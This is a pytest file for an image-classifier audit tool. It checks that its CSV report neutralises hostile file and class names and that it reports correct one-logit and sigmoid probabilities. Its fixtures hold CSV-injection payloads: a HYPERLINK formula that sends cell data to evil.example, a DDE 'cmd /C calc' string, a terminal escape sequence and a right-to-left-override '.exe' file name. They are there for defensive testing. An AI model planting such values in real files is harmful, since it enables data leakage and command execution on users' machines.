"""Issue 23, points 5 and 10 (first item): what the audit's table says, and how it opens.

A data set whose file and class names are formulas and terminal escapes, and
a model whose labels are too: ``results.csv`` must open in a spreadsheet as
text (no cell starts a formula), hold no control byte, and keep its numbers
numbers. Then the probabilities: a one-logit model and a sigmoid
(multi-label) head, where a softmax of the audit's own gave 1.0 and numbers
that disagreed with ``confidence`` and with ``seewhy.explain``.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

import seewhy
from models import tiny_cnn
from seewhy.audit import Store, audit
from seewhy.report.tables import FORMULA_STARTS, csv_bytes, spreadsheet_cell

torch = pytest.importorskip("torch")

HOSTILE_LABELS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1)")
HOSTILE_FILES = (
    '=HYPERLINK("evil.example?q","x").png',
    "-2+3.png",
    "+1.png",
    "@me.png",
    "\tpadded.png",
    "\rcarriage.png",
    "\x1b]0;pwned\x07.png",
    "a\u202egnp.exe.png",
)
NUMERIC = {"index", "confidence", "true_probability", "suspicion", "width", "height", "shard"}


def _photo(path: Path, seed: int) -> None:
    pixels = np.random.default_rng(seed).integers(0, 256, (36, 40, 3), dtype=np.uint8)
    Image.fromarray(pixels).save(path, format="PNG")


def _model(outputs: int, labels: tuple[str, ...]) -> Any:
    model = tiny_cnn(outputs, 0, widths=(4, 4), inplace=False)
    model.seewhy_spec = seewhy.ModelSpec(
        name="tiny", preprocess=seewhy.Preprocess(size=(32, 32)), labels=labels
    )
    return model


def _rows(out: Path) -> list[list[str]]:
    blob = (out / "results.csv").read_bytes()
    assert not any(b < 0x20 and b != 0x0A for b in blob), "a control byte in results.csv"
    return list(csv.reader(io.StringIO(blob.decode("utf-8"), newline="")))


def test_hostile_file_and_class_names_open_as_text_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    data = tmp_path / "data"
    for c, label in enumerate(("=1+1", "-cat", "dog")):  # class folders: true labels
        (data / label).mkdir(parents=True)
        for k, name in enumerate(HOSTILE_FILES[c::3]):
            _photo(data / label / name, 10 * c + k)
    out = tmp_path / "out"
    model = _model(3, HOSTILE_LABELS)
    result = audit(data, model, out=out, batch_size=4, labels_from="folders")
    assert result.summary["explained"] == len(HOSTILE_FILES)
    header, *rows = _rows(out)
    assert len(rows) == len(HOSTILE_FILES)
    texts = 0
    for row in rows:
        for column, cell in zip(header, row, strict=True):
            if column in NUMERIC or column.endswith("_energy"):
                assert cell == "" or math.isfinite(float(cell)), (column, cell)
                continue
            assert cell[:1] not in FORMULA_STARTS, (column, cell)
            texts += cell.startswith("'")
    assert texts >= 3 * len(HOSTILE_FILES)  # name, path, labels and top_k were neutralised
    names = {r[header.index("name")] for r in rows}
    assert '\'=1+1/=HYPERLINK("evil.example?q","x").png' in names
    assert any("\\x1b]0;pwned\\x07" in n for n in names)  # visible, not obeyed
    assert any("a\\u202egnp.exe.png" in n for n in names)
    pred = {r[header.index("pred_label")] for r in rows}
    assert pred <= {"'" + label for label in HOSTILE_LABELS}


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_is_text() -> None:
    blob = csv_bytes(["score", "label"], [{"score": -0.5, "label": "-0.5"}])
    header, row = list(csv.reader(io.StringIO(blob.decode("utf-8"))))
    assert header == ["score", "label"] and row == ["-0.5", "'-0.5"]
    assert float(row[0]) == -0.5
    assert spreadsheet_cell(np.float32(-2.0)) == -2.0 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("  =1+1") == "'  =1+1"  # importers that trim spaces
    assert spreadsheet_cell("\uff1dSUM(1)") == "'\uff1dSUM(1)"  # full-width '='


# --------------------------------------------------------------------------- probabilities


def _explained(model: Any, files: list[Path], truth: list[int], **kw: Any) -> dict[str, Any]:
    """Per file: (top class, its probability, the true class's probability) as explain says."""
    ex = seewhy.explain(model, [str(f) for f in files], method="gradcam", target=truth, **kw)
    return {
        Path(s).name: (ex.predictions[i][0].index, ex.predictions[i][0].probability, p)
        for i, s in enumerate(ex.sources)
        for p in [ex.target_probability(i)]
    }


def test_one_logit_model_true_probability_is_what_explain_says(tmp_path: Path) -> None:
    """A binary classifier with one output: class 1 is sigmoid(z), class 0 its complement."""
    labels = ("cat", "dog")
    files, truth = [], []
    for c, label in enumerate(labels):
        (tmp_path / "data" / label).mkdir(parents=True)
        for k in range(2):
            files.append(tmp_path / "data" / label / f"{label}{k}.png")
            truth.append(c)
            _photo(files[-1], 10 * c + k)
    model = _model(1, labels)
    audit(tmp_path / "data", model, out=tmp_path / "out", batch_size=2)
    expected = _explained(model, files, truth)
    records = Store(tmp_path / "out").records()
    assert len(records) == 4
    for r in records:
        top, confidence, true_p = expected[Path(r["name"]).name]
        assert r["true_probability"] == pytest.approx(true_p, abs=1e-6)
        assert (r["pred_index"], r["confidence"]) == (top, pytest.approx(confidence, abs=1e-6))
        assert 0.0 < r["true_probability"] < 1.0  # a softmax over one logit always said 1.0


def _three_labels(tmp_path: Path) -> tuple[Any, list[Path]]:
    labels = ("cat", "dog", "bird")
    files = []
    for c, label in enumerate(labels):
        (tmp_path / "data" / label).mkdir(parents=True)
        files.append(tmp_path / "data" / label / f"{label}.png")
        _photo(files[-1], c)
    return _model(3, labels), files


def _assert_each_labels_own_sigmoid(out: Path, model: Any, files: list[Path]) -> None:
    store = Store(out)
    ids, _ = store.maps()
    with np.load(out / "shards" / "0000000.npz") as shard:
        logits = shard["logits"].astype(np.float64)
    expected = _explained(model, files, [0, 1, 2], head="sigmoid")
    records = store.records()
    assert len(records) == 3
    for r in records:
        row = logits[list(ids).index(r["index"])]
        sigmoid = 1.0 / (1.0 + np.exp(-row))
        assert r["true_probability"] == pytest.approx(sigmoid[r["true_index"]], abs=1e-6)
        top, confidence, true_p = expected[Path(r["name"]).name]
        assert r["true_probability"] == pytest.approx(true_p, abs=1e-6)
        assert (r["pred_index"], r["confidence"]) == (top, pytest.approx(confidence, abs=1e-6))
        assert r["confidence"] == pytest.approx(sigmoid.max(), abs=1e-6)
        if r["pred_index"] == r["true_index"]:
            assert r["true_probability"] == pytest.approx(r["confidence"], abs=1e-6)


def test_sigmoid_head_true_probability_is_each_labels_own(tmp_path: Path) -> None:
    model, files = _three_labels(tmp_path)
    audit(tmp_path / "data", model, out=tmp_path / "out", batch_size=3, head="sigmoid")
    _assert_each_labels_own_sigmoid(tmp_path / "out", model, files)


def test_the_command_line_takes_the_head_too(tmp_path: Path) -> None:
    """``seewhy audit --head sigmoid`` reaches the audit: each label's own probability."""
    import argparse

    import torch

    from seewhy.cli.audit import add_audit_arguments, audit_command

    model, files = _three_labels(tmp_path)
    torch.save(model, tmp_path / "model.pth")  # the spec travels with the pickled module
    parser = argparse.ArgumentParser()
    add_audit_arguments(parser)
    argv = [str(tmp_path / "data"), "--model", str(tmp_path / "model.pth"), "--trust-model"]
    argv += ["--out", str(tmp_path / "out"), "--batch-size", "3", "--head", "sigmoid", "--quiet"]
    assert audit_command(parser.parse_args(argv)) == 0
    _assert_each_labels_own_sigmoid(tmp_path / "out", model, files)
